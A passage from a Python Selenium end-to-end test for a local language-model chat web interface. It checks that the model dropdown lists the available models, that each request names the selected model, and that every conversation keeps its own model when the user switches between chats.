    requests name the one picked, and each conversation keeps its model."""
    from selenium.webdriver.support.ui import Select
    d = browser
    (tmp_path / "m").mkdir()
    os.symlink(chat_model(), tmp_path / "m" / "smol.gguf")
    os.symlink(tiny_model(), tmp_path / "m" / "stories.gguf")
    with Server(None, "--models-dir", str(tmp_path / "m"), "--chat-template", "chatml") as srv:
        open_page(d, srv.url, FAST)
        select = wait_for(lambda: [e for e in css(d, "#model-select") if e.is_displayed()], 15, "the model select")[0]
        options = [o.text for o in Select(select).options]
        assert options == ["smol (unloaded)", "stories (unloaded)"], options
        assert css(d, "#model")[0].text == "loads with the first message"
        Select(select).select_by_value("stories")
        d.execute_script(SPY_FETCH)
        send(d, "Once upon a time")
        wait_replies(d, 1, 60)
        assert d.execute_script("return window.__requests")[-1]["model"] == "stories"
        wait_for(lambda: "stories" in [o.text for o in Select(css(d, "#model-select")[0]).options], 15,
                 "the state refreshed")
        assert css(d, "#model")[0].text.startswith("loaded")
        first = d.execute_script("return localStorage.getItem('genloop.active')")
        css(d, "#new-chat")[0].click()
        Select(css(d, "#model-select")[0]).select_by_value("smol")
        send(d, "Hi")
        wait_replies(d, 1, 60)
        assert d.execute_script("return window.__requests")[-1]["model"] == "smol"
        # back in the first conversation: its model again, for the select and the next request
        item = wait_for(lambda: [e for e in css(d, "#conv-list li") if "Once upon" in e.text], 10, "the first chat")
        item[0].click()
        wait_for(lambda: d.execute_script("return localStorage.getItem('genloop.active')") == first, 10,
                 "the first conversation open")
        assert Select(css(d, "#model-select")[0]).first_selected_option.get_attribute("value") == "stories"
        send(d, "And then")
        wait_replies(d, 2, 60)
        assert d.execute_script("return window.__requests")[-1]["model"] == "stories"
